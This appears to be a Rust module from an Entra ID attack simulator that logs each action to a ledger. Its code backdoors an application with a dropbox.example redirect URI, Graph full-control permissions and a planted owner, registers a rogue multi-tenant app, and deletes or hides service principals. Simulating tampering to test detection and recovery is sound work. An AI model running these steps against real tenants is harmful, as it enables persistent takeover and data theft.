//! Strikes against applications and service principals.

use serde_json::{Value, json};

use super::{AttackError, DeedKind, Intruder, has, id, name};

const GRAPH: &str = "00000003-0000-0000-c000-000000000000";
const FULL_CONTROL: &str = "19dbc75e-c2e2-444c-a770-ec69d8559fc7";

pub(super) async fn strike(intruder: &mut Intruder) -> Result<(), AttackError> {
    let applications = intruder.client.list("/applications?$top=999", 2).await?;
    backdoor(intruder, &applications).await?;
    delete_one(intruder, &applications).await?;
    service_principals(intruder).await?;
    let rogue = intruder
        .client
        .create(
            "/applications",
            &json!({
                "displayName": "Backup Connector",
                "signInAudience": "AzureADMultipleOrgs",
                "web": { "redirectUris": ["https://collect.dropbox.example/cb"] },
                "requiredResourceAccess": [{
                    "resourceAppId": GRAPH,
                    "resourceAccess": [{ "id": FULL_CONTROL, "type": "Role" }],
                }],
            }),
        )
        .await?;
    let sentence = "registered an application of the intruder's own";
    intruder
        .ledger
        .note("application", &rogue, DeedKind::Added, &[], sentence);
    let principal = intruder
        .client
        .create("/servicePrincipals", &json!({ "appId": rogue["appId"] }))
        .await?;
    let sentence = "gave the planted application a service principal";
    intruder.ledger.note(
        "servicePrincipal",
        &principal,
        DeedKind::Added,
        &[],
        sentence,
    );
    Ok(())
}

fn principal_path(application: &Value) -> String {
    format!(
        "/servicePrincipals(appId='{}')",
        application["appId"].as_str().unwrap_or_default()
    )
}

/// Opens a known application to the intruder and makes the planted user its owner.
async fn backdoor(intruder: &mut Intruder, applications: &[Value]) -> Result<(), AttackError> {
    let Some(application) = intruder.pick(applications, |_| true) else {
        return Ok(());
    };
    let path = format!("/applications/{}", id(&application));
    let before = intruder.client.find(&principal_path(&application)).await?;
    let mut redirects = application["web"]["redirectUris"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    redirects.push("https://login.dropbox.example/cb".into());
    let mut access = application["requiredResourceAccess"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    access.retain(|entry| entry["resourceAppId"] != GRAPH);
    access.push(json!({
        "resourceAppId": GRAPH,
        "resourceAccess": [{ "id": FULL_CONTROL, "type": "Role" }],
    }));
    let body = json!({
        "displayName": format!("{} (legacy)", name(&application)),
        "web": { "redirectUris": redirects },
        "requiredResourceAccess": access,
    });
    intruder.client.change(&path, &body).await?;
    let sentence = format!(
        "renamed {}, added a redirect URI and asked for full control",
        name(&application)
    );
    intruder.ledger.note(
        "application",
        &application,
        DeedKind::Modified,
        &["displayName", "requiredResourceAccess", "web"],
        &sentence,
    );
    if let Some(rogue) = intruder.rogue_user.clone() {
        intruder
            .client
            .link(&format!("{path}/owners/$ref"), &rogue)
            .await?;
        intruder.ledger.links(
            "application",
            &application,
            &[("owners", "added", &rogue)],
            "made the planted user its owner",
        );
    }
    // Some properties of the service principal follow the application.
    if let (Some(before), Some(after)) = (
        before,
        intruder.client.find(&principal_path(&application)).await?,
    ) {
        intruder.used.insert(id(&before).to_owned());
        let changed: Vec<&str> = before
            .as_object()
            .into_iter()
            .flatten()
            .filter(|(property, value)| after.get(property.as_str()) != Some(value))
            .map(|(property, _)| property.as_str())
            .collect();
        if !changed.is_empty() {
            intruder.ledger.note(
                "servicePrincipal",
                &before,
                DeedKind::Modified,
                &changed,
                "changed along with its application",
            );
        }
    }
    Ok(())
}

async fn delete_one(intruder: &mut Intruder, applications: &[Value]) -> Result<(), AttackError> {
    let Some(application) = intruder.pick(applications, |_| true) else {
        return Ok(());
    };
    let principal = intruder.client.find(&principal_path(&application)).await?;
    intruder
        .client
        .delete(&format!("/applications/{}", id(&application)))
        .await?;
    let sentence = format!("deleted the application {}", name(&application));
    intruder.ledger.note(
        "application",
        &application,
        DeedKind::SoftDeleted,
        &[],
        &sentence,
    );
    if let Some(principal) = principal {
        intruder.used.insert(id(&principal).to_owned());
        let sentence = "deleted along with its application";
        intruder.ledger.note(
            "servicePrincipal",
            &principal,
            DeedKind::SoftDeleted,
            &[],
            sentence,
        );
    }
    Ok(())
}

async fn service_principals(intruder: &mut Intruder) -> Result<(), AttackError> {
    let principals = intruder
        .client
        .list("/servicePrincipals?$top=999", 2)
        .await?;
    let tenant = intruder.tenant_id.clone();
    let own = |principal: &Value| {
        principal["appOwnerOrganizationId"]
            .as_str()
            .is_some_and(|owner| owner.eq_ignore_ascii_case(&tenant))
            && principal["servicePrincipalType"] == "Application"
    };
    if let Some(principal) = intruder.pick(&principals, |principal| {
        own(principal) && principal["accountEnabled"] == true
    }) {
        let mut tags = principal["tags"].as_array().cloned().unwrap_or_default();
        if !has(&principal["tags"], "HideApp") {
            tags.push("HideApp".into());
        } else {
            tags.push("Retired".into());
        }
        let body = json!({ "accountEnabled": false, "tags": tags });
        let path = format!("/servicePrincipals/{}", id(&principal));
        intruder.client.change(&path, &body).await?;
        let sentence = format!(
            "disabled and hid the service principal {}",
            name(&principal)
        );
        intruder.ledger.note(
            "servicePrincipal",
            &principal,
            DeedKind::Modified,
            &["accountEnabled", "tags"],
            &sentence,
        );
    }
    if let Some(principal) = intruder.pick(&principals, own) {
        let mut urls = principal["replyUrls"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        urls.push("https://login.dropbox.example/sp".into());
        let path = format!("/servicePrincipals/{}", id(&principal));
        intruder
            .client
            .change(&path, &json!({ "replyUrls": urls }))
            .await?;
        let sentence = format!("added a reply URL to {}", name(&principal));
        intruder.ledger.note(
            "servicePrincipal",
            &principal,
            DeedKind::Modified,
            &["replyUrls"],
            &sentence,
        );
    }
    Ok(())
}
